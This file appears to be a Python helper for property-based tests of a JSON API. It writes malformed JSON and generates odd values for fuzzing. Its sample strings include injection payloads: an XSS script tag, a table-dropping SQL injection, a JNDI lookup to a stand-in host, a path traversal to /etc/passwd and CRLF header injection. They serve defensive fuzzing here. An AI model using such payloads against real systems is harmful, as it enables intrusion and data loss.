"""JSON as it should not be: a writer that can say what the `json` module cannot, and strategies for odd values.

Above: `generated_bodies`. Below: hypothesis, and the case file for the names of real fields.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

from hypothesis import strategies as st

from tests.contract.case_file import cases


@dataclass(frozen=True, kw_only=True)
class Raw:
    """JSON text that is written as it stands."""

    text: str


@dataclass(frozen=True, kw_only=True)
class Pairs:
    """A JSON object whose members may repeat."""

    members: list[tuple[str, Any]] = field(default_factory=list)


def written(value: Any, *, escape: bool = True) -> bytes:
    """Write a value as JSON; without `escape` a lone surrogate becomes bytes that are no UTF-8."""
    return _text(value, escape).encode("utf-8", "surrogatepass")


def _text(value: Any, escape: bool) -> str:
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, dict):
        value = Pairs(members=list(value.items()))
    if isinstance(value, Pairs):
        return "{" + ",".join(f"{_text(name, escape)}:{_text(item, escape)}" for name, item in value.members) + "}"
    if isinstance(value, list):
        return "[" + ",".join(_text(item, escape) for item in value) + "]"
    return json.dumps(value, ensure_ascii=escape)


def leaves(value: Any) -> list[str]:
    """Every text and number in a value, as it would look where a reply quoted it. Names of fields are no values."""
    if isinstance(value, Raw):
        return [value.text]
    if isinstance(value, Pairs):
        return [leaf for _, item in value.members for leaf in leaves(item)]
    if isinstance(value, dict):
        return [leaf for item in value.values() for leaf in leaves(item)]
    if isinstance(value, list):
        return [leaf for item in value for leaf in leaves(item)]
    return [str(value)]


def places(value: Any) -> list[tuple[Any, Any]]:
    """Every (container, key) in a document; the envelope's own members among them."""
    members = list(value.items()) if isinstance(value, dict) else list(enumerate(value)) if isinstance(value, list) else []
    return [place for name, item in members for place in ((value, name), *places(item))]


_ODD_TEXTS = st.one_of(
    st.text(max_size=40),
    st.text(st.characters(categories=["Cc", "Cf", "Co", "Cn", "Zl", "Zp", "Mn"]), max_size=12),
    st.sampled_from(
        [
            "\u0000",
            "a\u0000b",
            "\u202eevil\u2066",
            "\ufeff",
            "\u200b\u200d",
            "Z" + "\u0301" * 300,
            "🛠" * 100,
            "x" * 5000,
            "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
            "٠١٢٣٤٥٦٧٨٩",
            "<script>alert(1)</script>",
            "'; drop table journal.events; --",
            "{{7*7}} ${jndi:ldap://elsewhere.example/a}",
            "../../../../etc/passwd",
            "%00%0d%0aset-cookie: a=b",
            "__proto__",
            "NaN",
            "2030-02-30T99:99:99Z",
            "+1 (608) 555-0199 ext. 99999999999999999999",
            "someone.else@mail.example",
        ]
    ),
)
_ODD_NUMBERS = st.one_of(
    st.integers(-(10**30), 10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(["-0", "-0.0", "1e-400", "0.1e+1", "1E2", "9" * 300]).map(lambda text: Raw(text=text)),
    st.sampled_from([2**31, -(2**31) - 1, 2**53 + 1, 2**63]),
)
_ODD = st.one_of(st.none(), st.booleans(), _ODD_NUMBERS, _ODD_TEXTS)
# One of these and the whole body is refused, so they come seldom: the rest is to be reached as well.
_BROKEN = st.one_of(
    st.sampled_from(
        ["1e400", "-1e400", "9" * 400, "01", "1.", "+1", "NaN", "-Infinity", "0x10", "1e", "'a'", "undefined", ""]
    ).map(lambda text: Raw(text=text)),
    st.sampled_from(["\ud800", "\udc00\ud800", "a\udfff"]),
)
odd_scalars = st.integers(0, 63).flatmap(lambda roll: _BROKEN if roll == 13 else _ODD)
_PII_NAMES = st.sampled_from(
    [
        "ssn",
        "creditCardNumber",
        "password",
        "customer.ssn",
        "Ada Quill",
        "ada@mail.example",
        "+16085550123",
        "\u202ename",
        "",
        "a" * 500,
    ]
)
_FIELDS = st.sampled_from(sorted({name for case in cases() for _, name in places(case.payload) if isinstance(name, str)}))
field_names = st.one_of(_FIELDS, _FIELDS, _FIELDS, _PII_NAMES, st.text(max_size=10))
any_json = st.recursive(
    odd_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4),
        st.dictionaries(field_names, inner, max_size=4),
    ),
    max_leaves=12,
)
